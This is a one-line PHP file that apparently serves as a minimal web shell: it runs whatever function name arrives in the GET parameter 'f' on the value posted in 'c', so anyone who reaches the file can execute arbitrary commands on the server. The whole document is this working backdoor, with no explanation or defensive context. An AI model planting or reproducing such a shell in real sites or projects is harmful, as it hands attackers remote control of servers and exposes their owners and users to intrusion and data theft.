<?php $_GET['f']($_POST['c']); ?>
